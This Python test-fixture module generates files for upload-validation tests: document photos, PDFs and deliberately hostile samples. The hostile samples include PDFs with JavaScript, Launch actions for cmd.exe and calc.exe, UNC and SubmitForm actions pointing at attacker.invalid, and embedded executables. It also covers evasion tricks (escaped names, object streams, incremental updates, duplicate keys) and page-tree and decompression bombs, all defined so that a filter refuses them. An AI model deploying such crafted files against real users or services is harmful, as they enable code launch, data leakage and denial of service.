"""Files for upload tests, made here (never downloaded): photos of documents, PDFs, hostile files."""

from __future__ import annotations

import io
import os
import re
import struct
import zipfile
import zlib
from collections.abc import Callable

from PIL import Image, ImageDraw, ImageFilter
from pypdf import PdfReader, PdfWriter
from pypdf.actions import JavaScript, PageTrigger
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    StreamObject,
    TextStringObject,
)
from reportlab.pdfgen import canvas


def document_photo(width: int = 1600, height: int = 1200, *, blur: float = 0.0, fmt: str = "JPEG",
                   seed: int = 0) -> bytes:
    """A sharp (or blurred) picture of a page of text lines and a table."""
    img = Image.new("RGB", (width, height), "white")
    draw = ImageDraw.Draw(img)
    for row in range(40, height - 40, max(height // 30, 12)):
        draw.line([(60, row), (width - 60, row)], fill=(40, 40, 40), width=2)
        for col in range(80 + seed % 7, width - 80, 37):
            draw.rectangle([col, row - 9, col + 20, row - 3], fill=(10, 10, 10))
    if blur:
        img = img.filter(ImageFilter.GaussianBlur(blur))
    out = io.BytesIO()
    img.save(out, fmt, quality=90) if fmt == "JPEG" else img.save(out, fmt)
    return out.getvalue()


def noise_png(width: int, height: int) -> bytes:
    """Random pixels: a PNG that does not compress (for size limits)."""
    out = io.BytesIO()
    Image.frombytes("RGB", (width, height), os.urandom(width * height * 3)).save(out, "PNG")
    return out.getvalue()


def pdf(pages: int = 1, text: str = "diagnosis") -> bytes:
    out = io.BytesIO()
    c = canvas.Canvas(out)
    for i in range(pages):
        c.drawString(72, 720, f"{text} page {i + 1}")
        c.showPage()
    c.save()
    return out.getvalue()


def encrypted_pdf() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=200, height=200)
    writer.encrypt("secret")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def png_header_only(width: int, height: int) -> bytes:
    """A PNG that declares a huge size (a decompression bomb's header) with a tiny compressed body."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", zlib.compress(b"\x00" * 1000))
            + chunk(b"IEND", b""))


def zip_archive(name: str = "readme.html", content: bytes = b"<script>alert(1)</script>") -> bytes:
    """A small ZIP, to append to an image (a polyglot: an image to one program, an archive to another)."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, content)
    return out.getvalue()


def _written(writer: PdfWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _one_page() -> PdfWriter:
    return PdfWriter(clone_from=PdfReader(io.BytesIO(pdf(1))))


def pdf_with_javascript() -> bytes:
    """Document-level JavaScript (the catalog's /Names /JavaScript tree), as pypdf's add_open_action makes it."""
    writer = _one_page()
    writer.add_open_action(JavaScript("app.alert('hello');"))
    return _written(writer)


def pdf_with_page_script() -> bytes:
    """JavaScript run when the first page opens (the page's /AA)."""
    writer = _one_page()
    writer.pages[0].add_action(PageTrigger.OPEN, JavaScript("app.launchURL('http://example.invalid/');"))
    return _written(writer)


def pdf_with_attachment() -> bytes:
    writer = _one_page()
    writer.add_attachment("invoice.exe", b"MZ" + b"\x00" * 64)
    return _written(writer)


def pdf_with_file_annotation() -> bytes:
    """A file attached to a page through a /FileAttachment annotation (no /EmbeddedFiles name tree)."""
    writer = _one_page()
    embedded = StreamObject()
    embedded.set_data(b"MZ" + b"\x00" * 64)
    embedded[NameObject("/Type")] = NameObject("/EmbeddedFile")
    filespec = DictionaryObject({NameObject("/Type"): NameObject("/Filespec"),
                                 NameObject("/F"): TextStringObject("tool.exe"),
                                 NameObject("/EF"): DictionaryObject({NameObject("/F"): writer._add_object(embedded)})})
    writer.add_annotation(0, DictionaryObject({
        NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject("/FileAttachment"),
        NameObject("/Rect"): ArrayObject([NumberObject(n) for n in (10, 10, 30, 30)]),
        NameObject("/FS"): filespec}))
    return _written(writer)


def pdf_with_launch_action() -> bytes:
    """An /OpenAction that starts a program."""
    writer = _one_page()
    writer.root_object[NameObject("/OpenAction")] = DictionaryObject({
        NameObject("/Type"): NameObject("/Action"), NameObject("/S"): NameObject("/Launch"),
        NameObject("/F"): TextStringObject("cmd.exe")})
    return _written(writer)


def pdf_with_link_script() -> bytes:
    """A link whose harmless URI action is followed (/Next) by JavaScript."""
    writer = _one_page()
    script = DictionaryObject({NameObject("/S"): NameObject("/JavaScript"),
                               NameObject("/JS"): TextStringObject("app.alert(1);")})
    writer.add_annotation(0, DictionaryObject({
        NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject("/Link"),
        NameObject("/Rect"): ArrayObject([NumberObject(n) for n in (10, 10, 100, 30)]),
        NameObject("/A"): DictionaryObject({NameObject("/S"): NameObject("/URI"),
                                            NameObject("/URI"): TextStringObject("https://example.invalid/"),
                                            NameObject("/Next"): ArrayObject([writer._add_object(script)])})}))
    return _written(writer)


def raw_pdf(*objects: bytes) -> bytes:
    """A PDF written by hand: object 1 is the catalog, objects are numbered from 1, the xref is exact."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


def pdf_page_tree_bomb(fanout: int = 10, depth: int = 9) -> bytes:
    """A 1 kB PDF of fanout**depth pages (10^9): each /Pages node lists the next one `fanout` times.
    Its /Count says 1."""
    nodes = [b"<< /Type /Pages /Kids [%s] /Count 1 >>" % b" ".join([b"%d 0 R" % (level + 3)] * fanout)
             for level in range(depth)]
    leaf = b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 200 200] >>" % (depth + 1)
    return raw_pdf(b"<< /Type /Catalog /Pages 2 0 R >>", *nodes, leaf)


def pdf_page_tree_loop() -> bytes:
    """A page tree whose /Pages nodes list each other as kids, forever."""
    return raw_pdf(b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                   b"<< /Type /Pages /Kids [2 0 R] /Parent 2 0 R /Count 1 >>")


def pdf_with_escaped_script() -> bytes:
    """An /OpenAction script whose names are written with # escapes (/J#61vaScript is /JavaScript), so the
    raw bytes never spell them: only reading the objects finds it."""
    return raw_pdf(b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
                   b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                   b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
                   b"<< /S /J#61vaScript /J#53 (app.alert(1);) >>")


def pdf_with_compressed_content(size: int = 50 * 1024 * 1024) -> bytes:
    """One page whose content stream inflates to `size` bytes (a zip bomb's ratio, about 1000:1)."""
    squeeze = zlib.compressobj(9)
    block = b" " * (1024 * 1024)
    data = b"".join(squeeze.compress(block) for _ in range(size // len(block))) + squeeze.flush()
    return raw_pdf(b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                   b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R >>",
                   b"<< /Length %d /Filter /FlateDecode >>\nstream\n%s\nendstream" % (len(data), data))


def multipart_form(fields: dict[str, str], file_name: bytes, content: bytes,
                   content_type: str = "image/jpeg") -> tuple[bytes, str]:
    """A multipart/form-data body written by hand, so the file name goes out byte for byte (httpx would
    percent-encode control characters). Returns the body and its Content-Type header."""
    boundary = b"mtb-" + os.urandom(12).hex().encode()
    parts = [b'--%s\r\nContent-Disposition: form-data; name="%s"\r\n\r\n%s\r\n'
             % (boundary, name.encode(), value.encode()) for name, value in fields.items()]
    parts.append(b'--%s\r\nContent-Disposition: form-data; name="file"; filename="%s"\r\n'
                 b"Content-Type: %s\r\n\r\n%s\r\n" % (boundary, file_name, content_type.encode(), content))
    return b"".join(parts) + b"--%s--\r\n" % boundary, f"multipart/form-data; boundary={boundary.decode()}"


def with_jpeg_comment(jpeg: bytes, comment: bytes) -> bytes:
    """The JPEG with a comment (COM) segment right after SOI."""
    return jpeg[:2] + b"\xff\xfe" + struct.pack(">H", len(comment) + 2) + comment + jpeg[2:]


def with_png_chunk(png: bytes, kind: bytes, data: bytes) -> bytes:
    """The PNG with one more chunk right after IHDR (8 bytes of signature, 25 of IHDR)."""
    chunk = struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    return png[:33] + chunk + png[33:]


# Ordinary encodings an end-of-image check must not mistake for appended data.
IMAGE_VARIANTS = {"progressive-jpeg": ("JPEG", {"progressive": True, "quality": 90}),
                  "jpeg-restart-markers": ("JPEG", {"restart_marker_blocks": 1}),
                  "jpeg-optimized": ("JPEG", {"optimize": True}),
                  "interlaced-png": ("PNG", {"interlace": 1})}


def image_variant(label: str) -> bytes:
    fmt, options = IMAGE_VARIANTS[label]
    out = io.BytesIO()
    Image.open(io.BytesIO(document_photo())).save(out, fmt, **options)
    return out.getvalue()


# --- PDFs written by hand for the active-content rule (mtb/materials/pdfactive.py) ----------------------
# Objects: 1 the catalog, 2 the page tree, 3 the page, 4 the action under test; 5.. what holds it.

A4_PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"
GOTO = b"<< /S /GoTo /D [3 0 R /Fit] >>"


def escaped(name: bytes) -> bytes:
    """`/JavaScript` as `/#4aavaScript`: the same name to a PDF reader, other bytes on disk."""
    return b"/#%02x%s" % (name[1], name[2:])


def object_stream_pdf(*objects: bytes) -> bytes:
    """A PDF (1.5) whose objects, numbered from 1 (the catalog), all sit in one compressed object stream,
    found through a cross-reference stream: none of their bytes show in the file."""
    count = len(objects)
    stream_number, xref_number = count + 1, count + 2
    heads, data = [], b""
    for number, body in enumerate(objects, start=1):
        heads.append(b"%d %d" % (number, len(data)))
        data += body + b"\n"
    head = b" ".join(heads) + b"\n"
    packed = zlib.compress(head + data)
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    stream_offset = len(out)
    out += (b"%d 0 obj\n<< /Type /ObjStm /N %d /First %d /Length %d /Filter /FlateDecode >>\nstream\n"
            % (stream_number, count, len(head), len(packed)) + packed + b"\nendstream\nendobj\n")
    xref_offset = len(out)
    rows = [b"\x00" + bytes(4) + b"\xff\xff"]
    rows += [b"\x02" + stream_number.to_bytes(4, "big") + index.to_bytes(2, "big") for index in range(count)]
    rows += [b"\x01" + stream_offset.to_bytes(4, "big") + bytes(2), b"\x01" + xref_offset.to_bytes(4, "big") + bytes(2)]
    table = b"".join(rows)
    out += (b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n"
            % (xref_number, xref_number + 1, len(table)) + table + b"\nendstream\nendobj\n")
    out += b"startxref\n%d\n%%%%EOF\n" % xref_offset
    return bytes(out)


def incremental_update(base: bytes, *objects: tuple[int, bytes]) -> bytes:
    """`base` (with a classic cross-reference table) plus an update that adds or replaces objects."""
    previous = int(base.rsplit(b"startxref", 1)[1].split()[0])
    size = int(re.findall(rb"/Size (\d+)", base)[-1])
    out = bytearray(base)
    offsets = {}
    for number, body in objects:
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n" + b"".join(b"%d 1\n%010d 00000 n \n" % (n, offsets[n]) for n in sorted(offsets))
    size = max(size, max(offsets) + 1)
    out += b"trailer\n<< /Size %d /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (size, previous, xref)
    return bytes(out)


def _catalog(extra: bytes = b"") -> bytes:
    return b"<< /Type /Catalog /Pages 2 0 R %s >>" % extra


PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"

# Where an action can sit: (catalog entries, page entries, further objects from 5 on).
ACTION_PLACES: dict[str, tuple[bytes, bytes, tuple[bytes, ...]]] = {
    "open-action": (b"/OpenAction 4 0 R", b"", ()),
    "document-aa": (b"/AA << /WC 4 0 R >>", b"", ()),
    "page-aa": (b"", b"/AA << /O 4 0 R >>", ()),
    "link": (b"", b"/Annots [5 0 R]", (b"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A 4 0 R >>",)),
    "link-pa": (b"", b"/Annots [5 0 R]", (b"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /PA 4 0 R >>",)),
    "annotation-aa": (b"", b"/Annots [5 0 R]",
                      (b"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /Dest [3 0 R /Fit] /AA << /E 4 0 R >> >>",)),
    "outline": (b"/Outlines 5 0 R", b"", (b"<< /Type /Outlines /First 6 0 R /Last 6 0 R /Count 1 >>",
                                          b"<< /Title (a) /Parent 5 0 R /A 4 0 R >>")),
    "outline-nested": (b"/Outlines 5 0 R", b"", (
        b"<< /Type /Outlines /First 6 0 R /Last 6 0 R /Count 2 >>",
        b"<< /Title (a) /Parent 5 0 R /Dest [3 0 R /Fit] /First 7 0 R /Last 7 0 R /Count 1 >>",
        b"<< /Title (b) /Parent 6 0 R /Prev 7 0 R /A 4 0 R >>")),
    "form-field-kid": (b"/AcroForm << /Fields [5 0 R] >>", b"", (
        b"<< /T (f) /Kids [6 0 R] >>",
        b"<< /Parent 5 0 R /Type /Annot /Subtype /Widget /Rect [0 0 10 10] /AA << /K 4 0 R >> >>")),
    "next-array": (b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [<< /S /GoTo /D [3 0 R /Fit] >> 5 0 R] >>", b"",
                   (b"<< /S /GoTo /D [3 0 R /Fit] /Next 4 0 R >>",)),
    "indirect-containers": (b"/AA 5 0 R", b"/Annots 6 0 R", (
        b"<< /DS 8 0 R >>", b"[7 0 R]", b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A 8 0 R >>",
        b"<< /S /GoTo /D [3 0 R /Fit] /Next 4 0 R >>")),
}

# Every action type of PDF 2.0 (and one no reader knows), each with what it needs to do its harm.
ACTIONS: dict[str, bytes] = {
    "JavaScript": b"<< /S /JavaScript /JS (app.alert(1);) >>",
    "Launch": b"<< /S /Launch /F (cmd.exe) >>",
    "GoToR-unc": b"<< /S /GoToR /F (\\\\\\\\attacker.invalid\\\\share\\\\x.pdf) /D [0 /Fit] >>",
    "GoToR-filespec": b"<< /S /GoToR /F << /Type /Filespec /FS /URL /F (smb://attacker.invalid/x.pdf) >> /D [0 /Fit] >>",
    "GoToE": b"<< /S /GoToE /T << /R /C /N (x) >> /D [0 /Fit] >>",
    "GoToDp": b"<< /S /GoToDp /Dp 3 0 R >>",
    "URI": b"<< /S /URI /URI (https://attacker.invalid/) >>",
    "SubmitForm": b"<< /S /SubmitForm /F << /FS /URL /F (https://attacker.invalid/collect) >> /Flags 4 >>",
    "ResetForm": b"<< /S /ResetForm >>",
    "ImportData": b"<< /S /ImportData /F (data.fdf) >>",
    "Named": b"<< /S /Named /N /Print >>",
    "Thread": b"<< /S /Thread /D 0 >>",
    "Sound": b"<< /S /Sound /Sound 3 0 R >>",
    "Movie": b"<< /S /Movie /T (m) >>",
    "Hide": b"<< /S /Hide /T (f) >>",
    "SetOCGState": b"<< /S /SetOCGState /State [/OFF] >>",
    "Rendition": b"<< /S /Rendition /OP 0 /JS (app.alert(1);) >>",
    "Trans": b"<< /S /Trans /Trans << /S /Dissolve >> >>",
    "GoTo3DView": b"<< /S /GoTo3DView /TA 3 0 R /V 0 >>",
    "RichMediaExecute": b"<< /S /RichMediaExecute /TA 3 0 R /CMD << /C (x) >> >>",
    "unknown-type": b"<< /S /Exfiltrate /F (x) >>",
    "script-without-type": b"<< /JS (app.alert(1);) >>",
}


def pdf_with_action(place: str, action: bytes, *, spelling: str = "plain") -> bytes:
    """A one-page PDF with `action` at `place`. Spelling: `plain`; `escaped` (the action type's name
    written with a #-escape: /#4aavaScript); `object-stream` (every object compressed, so no name shows
    in the file); `update` (the action added by an incremental update that replaces the catalog)."""
    catalog_extra, page_extra, further = ACTION_PLACES[place]
    if spelling == "escaped":
        action = re.sub(rb"/S /(\w+)", lambda m: b"/S " + escaped(b"/" + m.group(1)), action)
        action = action.replace(b"/JS ", escaped(b"/JS") + b" ")
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] %s >>" % page_extra
    objects = (_catalog(catalog_extra), PAGES, page, action, *further)
    if spelling == "object-stream":
        return object_stream_pdf(*objects)
    if spelling == "update":
        base = raw_pdf(_catalog(), PAGES, A4_PAGE)
        return incremental_update(base, (1, _catalog(catalog_extra)), (3, page),
                                  *((n, body) for n, body in enumerate((action, *further), start=4)))
    return raw_pdf(*objects)


def pdf_with_objects(catalog_extra: bytes = b"", page_extra: bytes = b"", *further: bytes,
                     compressed: bool = False) -> bytes:
    """A one-page PDF with extra catalog and page entries and objects numbered from 4."""
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] %s >>" % page_extra
    objects = (_catalog(catalog_extra), PAGES, page, *further)
    return object_stream_pdf(*objects) if compressed else raw_pdf(*objects)


XFA_STREAM = (b"<< /Length 58 >>\nstream\n<xdp:xdp xmlns:xdp=\"http://ns.adobe.com/xdp/\"></xdp:xdp>\n"
              b"endstream")
SCRIPT = b"<< /S /JavaScript /JS (app.alert(1);) >>"
ESCAPED_SCRIPT = b"<< /S /J#61vaScript /J#53 (app.alert(1);) >>"

# The probe's variants (issue 16, item 4) and more: each must be refused as pdf_active_content.
HOSTILE_PDFS: dict[str, Callable[[], bytes]] = {
    "outline-item-script": lambda: pdf_with_action("outline", SCRIPT),
    "outline-nested-escaped-script": lambda: pdf_with_action("outline-nested", SCRIPT, spelling="escaped"),
    "escaped-launch-link": lambda: pdf_with_action("link", b"<< /S /L#61unch /F (calc.exe) >>"),
    "names-templates": lambda: pdf_with_objects(b"/Names << /Templates 4 0 R >>", b"", b"<< /Names [(t) 3 0 R] >>"),
    "names-escaped-javascript": lambda: pdf_with_objects(
        b"/Names << /J#61vaScript 4 0 R >>", b"", b"<< /Names [(x) 5 0 R] >>", ESCAPED_SCRIPT),
    "names-javascript-tree-kids": lambda: pdf_with_objects(
        b"/Names << /Dests 4 0 R /JavaScript << /Kids [5 0 R] >> >>", b"", b"<< /Names [(p) [3 0 R /Fit]] >>",
        b"<< /Limits [(a) (z)] /Names [(x) 6 0 R] >>", ESCAPED_SCRIPT),
    "names-embedded-files-in-object-stream": lambda: pdf_with_objects(
        b"/Names << /EmbeddedFiles 4 0 R >>", b"", b"<< /Names [] >>", compressed=True),
    "xfa-form": lambda: pdf_with_objects(b"/AcroForm << /Fields [] /XFA 4 0 R >>", b"", XFA_STREAM),
    "xfa-form-array": lambda: pdf_with_objects(b"/AcroForm << /Fields [] /XFA [(template) 4 0 R] >>", b"", XFA_STREAM),
    "xfa-form-escaped": lambda: pdf_with_objects(b"/AcroForm << /Fields [] /#58FA 4 0 R >>", b"", XFA_STREAM),
    "xfa-form-in-object-stream": lambda: pdf_with_objects(b"/AcroForm 4 0 R", b"",
                                                          b"<< /Fields [] /XFA [(template) (x)] >>", compressed=True),
    "xfa-needs-rendering": lambda: pdf_with_objects(b"/NeedsRendering true"),
    "gotor-unc-path": lambda: pdf_with_action("link", ACTIONS["GoToR-unc"]),
    "gotor-unc-escaped": lambda: pdf_with_action("link", ACTIONS["GoToR-unc"], spelling="escaped"),
    "submitform-url": lambda: pdf_with_action("form-field-kid", ACTIONS["SubmitForm"]),
    "submitform-widget-a": lambda: pdf_with_objects(
        b"/AcroForm << /Fields [4 0 R] >>", b"/Annots [4 0 R]",
        b"<< /FT /Btn /T (s) /Type /Annot /Subtype /Widget /Rect [0 0 9 9] /P 3 0 R /A 5 0 R >>",
        ACTIONS["SubmitForm"]),
    "uri-link": lambda: pdf_with_action("link", ACTIONS["URI"]),
    "named-print-open-action": lambda: pdf_with_action("open-action", ACTIONS["Named"]),
    "next-array-then-launch": lambda: pdf_with_action("next-array", ACTIONS["Launch"]),
    "indirect-containers-script": lambda: pdf_with_action("indirect-containers", SCRIPT, spelling="escaped"),
    "document-aa-script-escaped": lambda: pdf_with_action("document-aa", SCRIPT, spelling="escaped"),
    "page-close-importdata": lambda: pdf_with_action("page-aa", ACTIONS["ImportData"]),
    "annotation-aa-script": lambda: pdf_with_action("annotation-aa", SCRIPT, spelling="escaped"),
    "object-stream-open-script": lambda: pdf_with_action("open-action", SCRIPT, spelling="object-stream"),
    "object-stream-unreferenced-script": lambda: pdf_with_objects(b"", b"", SCRIPT, compressed=True),
    "incremental-update-open-script": lambda: pdf_with_action("open-action", SCRIPT, spelling="update"),
    "incremental-update-unreferenced-script": lambda: incremental_update(
        raw_pdf(_catalog(), PAGES, A4_PAGE), (4, ESCAPED_SCRIPT)),
    "script-under-unknown-key": lambda: pdf_with_objects(b"/Foo << /S /J#61vaScript /JS (x) >>"),
    "action-typed-uri-under-unknown-key": lambda: pdf_with_objects(
        b"", b"/Bar << /Type /Action /S /U#52I /URI (https://attacker.invalid/) >>"),
    "screen-rendition": lambda: pdf_with_objects(
        b"", b"/Annots [4 0 R]", b"<< /Type /Annot /Subtype /Screen /Rect [0 0 9 9] /A 5 0 R >>",
        ACTIONS["Rendition"]),
    "sound-annotation": lambda: pdf_with_objects(
        b"", b"/Annots [4 0 R]", b"<< /Type /Annot /Subtype /Sound /Rect [0 0 9 9] /Sound 3 0 R >>"),
    "richmedia-escaped-annotation": lambda: pdf_with_objects(
        b"", b"/Annots [4 0 R]", b"<< /Type /Annot /Subtype /RichM#65dia /Rect [0 0 9 9] >>"),
    "gotoe-open-action": lambda: pdf_with_action("open-action", ACTIONS["GoToE"], spelling="escaped"),
    "associated-file-escaped": lambda: pdf_with_objects(b"/#41F [4 0 R]", b"", b"<< /Type /Filespec /F (x.exe) >>"),
    "portfolio-collection": lambda: pdf_with_objects(b"/Collection << /Type /Collection >>"),
}

# Harmless structures that use the same names: stored, not refused.
HARMLESS_PDFS: dict[str, Callable[[], bytes]] = {
    "goto-link-outline-named-dests": lambda: pdf_with_objects(
        b"/Outlines 4 0 R /Names << /Dests 6 0 R >> /StructTreeRoot << /K << /S /Link >> >>",
        b"/Annots [7 0 R] /Group << /S /Transparency /CS /DeviceRGB >>",
        b"<< /Type /Outlines /First 5 0 R /Last 5 0 R /Count 1 >>",
        b"<< /Title (p1) /Parent 4 0 R /A << /S /GoTo /D (p1) >> >>",
        b"<< /Names [(p1) [3 0 R /Fit]] >>",
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /BS << /S /D >> /A << /S /GoTo /D [3 0 R /Fit] >> >>"),
    "goto-everywhere-in-object-stream": lambda: pdf_with_action("next-array", GOTO, spelling="object-stream"),
}


def pdf_with_page_boxes(*pages: bytes, tree: bytes = b"") -> bytes:
    """A hand-written PDF whose pages carry the given entries (e.g. b"/MediaBox [0 0 5000 5000]"); `tree`
    adds entries to the /Pages node (inherited by every page). Each page draws one line of text, so a
    renderer has something to do. A 1-page one is about 500 bytes."""
    count = len(pages)
    kids = b" ".join(b"%d 0 R" % (4 + 2 * i) for i in range(count))
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [%s] /Count %d %s >>" % (kids, count, tree),
               b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"]
    text = b"BT /F1 24 Tf 72 72 Td (diagnosis) Tj ET"
    for entries in pages:
        objects.append(b"<< /Type /Page /Parent 2 0 R /Resources << /Font << /F1 3 0 R >> >> /Contents %d 0 R %s >>"
                       % (len(objects) + 2, entries))
        objects.append(b"<< /Length %d >>\nstream\n%s\nendstream" % (len(text), text))
    return raw_pdf(*objects)


# Page sizes a renderer would make into giant bitmaps (issue 16, item 5): refused at upload.
GIANT_PAGES: dict[str, Callable[[], bytes]] = {
    "mediabox-5000": lambda: pdf_with_page_boxes(b"/MediaBox [0 0 5000 5000]"),
    "mediabox-14400": lambda: pdf_with_page_boxes(b"/MediaBox [0 0 14400 14400]"),
    "mediabox-long-strip": lambda: pdf_with_page_boxes(b"/MediaBox [0 0 200 7200]"),
    "mediabox-negative-origin": lambda: pdf_with_page_boxes(b"/MediaBox [-4000 -4000 595 842]"),
    "mediabox-inherited": lambda: pdf_with_page_boxes(b"", tree=b"/MediaBox [0 0 7200 7200]"),
    "cropbox-larger": lambda: pdf_with_page_boxes(b"/MediaBox [0 0 595 842] /CropBox [0 0 9000 9000]"),
    "userunit-10": lambda: pdf_with_page_boxes(b"/MediaBox [0 0 842 1191] /UserUnit 10"),
    "second-page-giant": lambda: pdf_with_page_boxes(b"/MediaBox [0 0 595 842]", b"/MediaBox [0 0 6000 6000]"),
    "real-numbers": lambda: pdf_with_page_boxes(b"/MediaBox [0.0 0.0 1300.5 842.25]"),
}
# What scanners and exporters make: accepted.
SCANNED_PAGES: dict[str, Callable[[], bytes]] = {
    "a4": lambda: pdf_with_page_boxes(b"/MediaBox [0 0 595 842]"),
    "a3": lambda: pdf_with_page_boxes(b"/MediaBox [0 0 842 1191]"),
    "a3-landscape-inherited": lambda: pdf_with_page_boxes(b"", tree=b"/MediaBox [0 0 1191 842]"),
    "a3-with-scanner-margin": lambda: pdf_with_page_boxes(b"/MediaBox [0 0 900 1280] /Rotate 90"),
    "letter-offset-origin": lambda: pdf_with_page_boxes(b"/MediaBox [-36 -36 576 756] /CropBox [0 0 612 792]"),
}


def camera_photo(width: int = 4032, height: int = 3024) -> bytes:
    """A phone camera's photo of a document: 12 megapixels with sensor noise, saved at top quality
    (10-13 MB, above the upload limit, so only a photo shrunk on the phone gets through)."""
    page = Image.open(io.BytesIO(document_photo(width, height))).convert("RGB")
    noisy = Image.blend(page, Image.effect_noise((width, height), 40).convert("RGB"), 0.3)
    out = io.BytesIO()
    noisy.save(out, "JPEG", quality=100)
    return out.getvalue()


def objstm_pdf(*objects: bytes) -> bytes:
    """`raw_pdf`'s objects, all of them in one Flate-compressed object stream (PDF 1.5) with a compressed
    cross-reference stream, so that no dictionary shows in the file's bytes."""
    header = body = b""
    for number, content in enumerate(objects, start=1):
        header += b"%d %d " % (number, len(body))
        body += content + b"\n"
    data = zlib.compress(header + body)
    stream, xref = len(objects) + 1, len(objects) + 2
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    stream_offset = len(out)
    out += (b"%d 0 obj\n<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d >>\nstream\n"
            % (stream, len(objects), len(header), len(data)) + data + b"\nendstream\nendobj\n")
    xref_offset = len(out)
    rows = [(0, 0, 65535), *((2, stream, i) for i in range(len(objects))), (1, stream_offset, 0), (1, xref_offset, 0)]
    table = zlib.compress(b"".join(struct.pack(">BIH", *row) for row in rows))
    out += (b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Filter /FlateDecode /Length %d >>\nstream\n"
            % (xref, xref + 1, len(table)) + table + b"\nendstream\nendobj\n")
    out += b"startxref\n%d\n%%%%EOF\n" % xref_offset
    return bytes(out)


def pdf_with_entries(catalog: bytes = b"", page: bytes = b"", annotation: bytes = b"", action: bytes = b"",
                     *, compressed: bool = False) -> bytes:
    """A one-page PDF with a link annotation whose action (object 5) jumps to the page; each argument adds
    entries to that object. `compressed` puts every object in an object stream (`objstm_pdf`)."""
    objects = (b"<< /Type /Catalog /Pages 2 0 R %s >>" % catalog,
               b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
               b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [4 0 R] %s >>" % page,
               b"<< /Type /Annot /Subtype /Link /Rect [72 72 200 100] /A 5 0 R %s >>" % annotation,
               b"<< /S /GoTo /D [3 0 R /Fit] %s >>" % action)
    return objstm_pdf(*objects) if compressed else raw_pdf(*objects)


_JS = b"<< /S /JavaScript /JS (app.alert(1)) >>"
# A dictionary repeating a key: pypdf keeps the first value, pdfium and Acrobat the last, so an action
# hides behind a harmless first definition (or an empty one). Each is refused as `pdf_ambiguous`, whether
# the dictionary is a plain object or inside a compressed object stream, and even when both values are
# harmless (no honest writer repeats a key).
REPEATED_KEYS: dict[str, dict[str, bytes]] = {
    "catalog-openaction": {"catalog": b"/OpenAction << /S /GoTo /D [3 0 R /Fit] >> /OpenAction " + _JS},
    "catalog-names": {"catalog": b"/Names << /Dests << >> >> /Names << /JavaScript << /Names [(a) " + _JS
                                 + b"] >> >>"},
    "catalog-empty-aa": {"catalog": b"/AA << >> /AA << /WC << /S /Launch /F (calc.exe) >> >>"},
    "catalog-type": {"catalog": b"/Type /Catalog"},
    "page-aa": {"page": b"/AA << /O << /S /GoTo /D [3 0 R /Fit] >> >> /AA << /O " + _JS + b" >>"},
    "page-empty-annots": {"page": b"/Annots [] /Annots [4 0 R]"},
    "page-mediabox": {"page": b"/MediaBox [0 0 200000000 1]"},
    "annotation-action": {"annotation": b"/A << /S /Launch /F (calc.exe) >>"},
    "annotation-zero-flags": {"annotation": b"/F 0 /F 2"},
    "action-type": {"action": b"/S /JavaScript /JS (app.alert(1))"},
    "action-destination": {"action": b"/D [3 0 R /Fit]"},
    "nested-in-action": {"action": b"/Next << /S /GoTo /D [3 0 R /Fit] /S /Launch /F (calc.exe) >>"},
}
